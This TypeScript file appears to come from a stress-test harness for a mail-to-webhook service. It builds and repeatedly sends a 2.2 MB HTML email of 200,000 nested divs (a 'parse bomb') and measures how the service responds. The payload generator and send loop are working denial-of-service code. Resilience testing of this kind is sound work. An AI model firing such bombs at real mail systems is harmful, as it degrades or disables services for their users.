// Attack 3, parse bombs: a 2.2 MB HTML message of 200,000 nested <div>, sent again and again by
// several senders (from 127.0.0.5) to a mailbox of the attacker's that has credits.
import { createMailbox } from "../api.ts";
import { startReceiver } from "../receiver.ts";
import { latencySummary } from "../report.ts";
import { LOAD } from "../settings.ts";
import { dataBytes, sendMessage } from "../smtp_client.ts";
import { type Attack, clientLoops } from "./attack.ts";

export const BOMB_DEPTH = 200_000;
const SENDER_ADDRESS = "127.0.0.5";
/** SMTP lines stay under 998 characters: tags are joined into lines, never split. */
const LINE_CHARS = 980;

/** The bomb's HTML: BOMB_DEPTH nested divs, in lines cut only between tags. */
export function bombHtml(depth = BOMB_DEPTH): string {
  const lines: string[] = [];
  let line = "";
  const add = (tag: string) => {
    if (line.length + tag.length > LINE_CHARS) {
      lines.push(line);
      line = "";
    }
    line += tag;
  };
  for (let i = 0; i < depth; i++) add("<div>");
  for (let i = 0; i < depth; i++) add("</div>");
  lines.push(line);
  return lines.join("\r\n");
}

function bombMessage(to: string): string {
  return [
    "From: Bomb <bomb@attacker.example>",
    `To: ${to}`,
    "Subject: nested",
    `Date: ${new Date().toUTCString()}`,
    "MIME-Version: 1.0",
    "Content-Type: text/html; charset=utf-8",
    "",
    bombHtml(),
    "",
  ].join("\r\n");
}

export const parseBomb: Attack = async (context) => {
  const receiver = startReceiver("ok");
  const mailbox = await createMailbox(context.url, context.attacker, {
    webhookId: "bombs",
    target: `${receiver.url}/bombs`,
  });
  const data = dataBytes(bombMessage(mailbox));
  const answerMs: number[] = [];
  const target = { port: context.smtpPort, localAddress: SENDER_ADDRESS };
  const loops = clientLoops(LOAD.bombSenders, async (_client, signal) => {
    const started = performance.now();
    const result = await sendMessage(target, {
      envelope: { from: "bomb@attacker.example", to: mailbox },
      data,
      signal,
    });
    if (!signal.aborted) answerMs.push(performance.now() - started);
    return { status: result.code === 0 ? "network" : `smtp ${result.code}`, cost: null, retryAfter: false };
  });
  return {
    async stop() {
      await loops.stop();
      await receiver.close();
      const times = latencySummary(answerMs);
      return {
        tally: loops.tally,
        notes: [
          `${LOAD.bombSenders} senders of a ${(data.byteLength / 1024 / 1024).toFixed(1)} MB message; ` +
          (times.count === 0
            ? "none answered before the stop"
            : `${times.count} answered, in p50 ${times.p50Ms} ms, max ${times.maxMs} ms`) +
          `; ${receiver.received} delivered`,
        ],
      };
    },
  };
};
